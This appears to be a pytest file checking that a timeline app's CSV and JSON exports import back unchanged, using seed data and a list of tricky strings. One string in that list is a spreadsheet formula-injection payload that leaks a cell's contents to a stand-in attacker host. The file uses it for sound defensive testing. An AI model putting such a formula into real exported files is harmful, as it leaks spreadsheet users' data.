"""The CSV and JSON exports import back without loss: export, import into an empty timeline,
export again, and the two files agree, with the seed data and with hostile text."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import delete

from tests.conftest import DATA_TABLES
from tests.factories import make_actor, make_event
from timeline.domain import Role, Source

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "'=already quoted",
    "''+two quotes",
    "-5 degrees, and falling",
    "@handle; with a semicolon",
    "+972 Magazine",
    'He said "yes", then "no"',
    "Line one\nline two\r\nline three",
    "Ünïcödé — 中文 — 🎬 — \u200b",
    "'plain quote",
]


def _empty_timeline(session) -> None:
    for table in DATA_TABLES:
        session.execute(delete(table))
    session.commit()


def _import(runner, path: Path) -> None:
    result = runner.invoke(args=["import", str(path)])
    assert result.exit_code == 0, result.output


def _json_export(client) -> dict:
    """The whole public timeline as the JSON API gives it, the import's own clock left out."""
    answer = client.get("/api/events?limit=500").get_json()
    for event in answer["events"]:
        del event["created_at"], event["updated_at"]
    return answer


def _one_line(text: str) -> str:
    return " ".join(text.splitlines())


def _hostile_events(session) -> None:
    for n, text in enumerate(HOSTILE):
        name = _one_line(f"{text} {n}").replace(";", ",")  # '; ' separates a cell's actors
        actor = make_actor(session, name=name)
        event = make_event(session, f"2024-06-{n + 1:02d}", title=_one_line(text),
                           summary=text, actors=[(actor, Role.PARTY)])  # fmt: skip
        event.notes = text
        event.sources = [
            Source(url=f"https://example.org/{n};jsessionid=42?q=a,b", title=_one_line(text),
                   publisher=_one_line(text), published="2024-06"),
            Source(url=f"https://example.org/{n}/second"),
        ]  # fmt: skip
    session.commit()


def test_the_seed_exported_as_csv_imports_into_an_empty_timeline_byte_for_byte(
    seeded, client, runner, session, tmp_path
):
    exported = client.get("/api/events.csv").get_data()
    (tmp_path / "events.csv").write_bytes(exported)
    _empty_timeline(session)
    _import(runner, tmp_path / "events.csv")
    assert client.get("/api/events.csv").get_data() == exported


def test_the_seed_exported_as_json_imports_into_an_empty_timeline_unchanged(
    seeded, client, runner, session, tmp_path
):
    saved = client.get("/api/events?limit=500").get_data()
    before = _json_export(client)
    assert any(e["notes"] for e in before["events"])
    assert any(s["publisher"] for e in before["events"] for s in e["sources"])
    (tmp_path / "events.json").write_bytes(saved)
    _empty_timeline(session)
    result = runner.invoke(args=["import", str(tmp_path / "events.json")])
    assert result.exit_code == 0, result.output
    assert "warning" not in result.output  # the answer's own fields are expected
    assert _json_export(client) == before


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_hostile_text_survives_export_and_import(client, runner, session, tmp_path, suffix):
    _hostile_events(session)
    url = "/api/events.csv" if suffix == "csv" else "/api/events?limit=500"
    exported = client.get(url).get_data()
    before = _json_export(client)
    (tmp_path / f"events.{suffix}").write_bytes(exported)
    _empty_timeline(session)
    _import(runner, tmp_path / f"events.{suffix}")
    assert _json_export(client) == before
    assert client.get(url).get_data() == exported or suffix == "json"
    titles = {e["title"] for e in before["events"]}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"click")' in titles
    assert "'=already quoted" in titles


def test_two_events_alike_in_title_and_date_export_and_import_as_two(
    client, runner, session, tmp_path
):
    for _ in range(2):
        make_event(session, "2024-03-01", title="Studio signs AI deal")
    exported = client.get("/api/events.csv").get_data()
    (tmp_path / "events.csv").write_bytes(exported)
    _empty_timeline(session)
    _import(runner, tmp_path / "events.csv")
    assert client.get("/api/events.csv").get_data() == exported
    assert len(_json_export(client)["events"]) == 2


def test_records_without_slugs_alike_in_title_and_date_are_still_one_event(runner, write_file):
    rows = "title,start,category\n" + "Studio signs AI deal,2024-03-01,demo\n" * 2
    result = runner.invoke(args=["import", str(write_file("twice.csv", rows))])
    assert result.exit_code != 0
    assert "record 2 ('Studio signs AI deal'): field 'title': the same event as record 1" in (
        result.output
    )


def test_a_saved_json_answer_imports_with_its_sources_details(client, runner, write_file):
    answer = {
        "events": [{
            "slug": "deal", "title": "A deal", "category": "studio-deal", "start": "2024-09",
            "actors": [{"slug": "north-pics", "name": "Northlight", "kind": "studio",
                        "role": "party"}],
            "sources": [{"url": "https://example.org/a;jsessionid=42", "title": "The deal",
                         "publisher": "Example News", "published": "2024-09-02"}],
            "notes": "Dated by the press release.", "status": "published",
        }],
        "next": None,
    }  # fmt: skip
    _import(runner, write_file("answer.json", json.dumps(answer)))
    event = client.get("/api/events/deal").get_json()["event"]
    assert event["sources"] == answer["events"][0]["sources"]
    assert event["actors"][0]["slug"] == "north-pics"
    assert event["notes"] == "Dated by the press release."
